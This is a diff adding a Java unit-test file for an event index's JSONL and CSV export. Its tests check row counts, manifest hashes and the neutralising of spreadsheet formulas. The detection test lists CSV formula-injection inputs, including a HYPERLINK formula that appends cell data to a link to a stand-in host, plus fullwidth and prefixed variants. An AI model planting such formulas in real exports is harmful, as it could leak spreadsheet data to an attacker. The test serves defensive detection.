@@ -1,0 +1,112 @@
+package dev.gatehouse.search;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.gatehouse.event.Event;
+import dev.gatehouse.event.EventId;
+import dev.gatehouse.json.Json;
+import dev.gatehouse.record.FoldedEvent;
+import dev.gatehouse.record.Sameness;
+import dev.gatehouse.search.ExportRequest.Format;
+import dev.gatehouse.search.query.Query;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.security.MessageDigest;
+import java.time.InstantSource;
+import java.util.ArrayList;
+import java.util.HexFormat;
+import java.util.List;
+import java.util.OptionalLong;
+import java.util.Random;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class ExportTest {
+    @TempDir Path folder;
+
+    private EventIndex filled(int count) throws IOException {
+        EventIndex index =
+                EventIndex.open(
+                        new EventIndexSettings(
+                                folder,
+                                "a",
+                                () -> {
+                                    throw new IllegalStateException("events are handed over");
+                                },
+                                InstantSource.system()));
+        RandomEvents events = new RandomEvents(new Random(23));
+        List<FoldedEvent> batch = new ArrayList<>();
+        for (int position = 0; position < count; position++) {
+            Event event = events.at(new EventId(position, 0));
+            batch.add(new FoldedEvent(event, Sameness.First.FIRST, false));
+        }
+        index.take(batch, Set.of(), count);
+        return index;
+    }
+
+    private static ExportRequest all(Format format) {
+        return new ExportRequest(Query.All.ALL, Window.ALL_TIME, OptionalLong.empty(), format);
+    }
+
+    @Test
+    void everyRowIsThereBeyondAPageAndTheManifestDescribesTheFile() throws Exception {
+        int count = SearchRequest.LIMIT_EVENTS_MAX * 2 + 5;
+        try (EventIndex index = filled(count)) {
+            ByteArrayOutputStream file = new ByteArrayOutputStream();
+            ExportManifest manifest = index.export(all(Format.JSONL), file);
+            List<String> lines = file.toString(StandardCharsets.UTF_8).lines().toList();
+            assertThat(lines).hasSize(count).allSatisfy(line -> Json.parse(line));
+            assertThat(manifest.rows()).isEqualTo(count);
+            assertThat(manifest.asOf()).isEqualTo(count - 1);
+            assertThat(manifest.bytes()).isEqualTo(file.size());
+            byte[] digest = MessageDigest.getInstance("SHA-256").digest(file.toByteArray());
+            assertThat(manifest.sha256()).isEqualTo(HexFormat.of().formatHex(digest));
+        }
+    }
+
+    @Test
+    void noCellOfACsvStartsAFormula() throws IOException {
+        try (EventIndex index = filled(400)) {
+            ByteArrayOutputStream file = new ByteArrayOutputStream();
+            ExportManifest manifest = index.export(all(Format.CSV), file);
+            String text = file.toString(StandardCharsets.UTF_8);
+            assertThat(text)
+                    .startsWith("\"id\",\"time\",")
+                    .contains("\"'=1+1\"")
+                    .doesNotContainPattern("(?m)(^|\",)\"[=+@-]");
+            assertThat(manifest.formulasMadeInert()).isPositive();
+            assertThat(text).doesNotContain("\u0000");
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://e/\"&A1)",
+                "+1",
+                "-1+1",
+                "@SUM(A1)",
+                "\t=1",
+                "\r=1",
+                ";=1",
+                " =1",
+                "\"=1",
+                "\uff1d1+1",
+                "\uff20SUM",
+                ", =1"
+            })
+    void whatASpreadsheetWouldRunIsRecognised(String cell) {
+        assertThat(CsvRows.isFormula(cell)).isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", "a=1", "dana.k", "10.0.0.1", "x+y", "1-2", " plain"})
+    void plainTextStaysAsItIs(String cell) {
+        assertThat(CsvRows.isFormula(cell)).isFalse();
+    }
+}
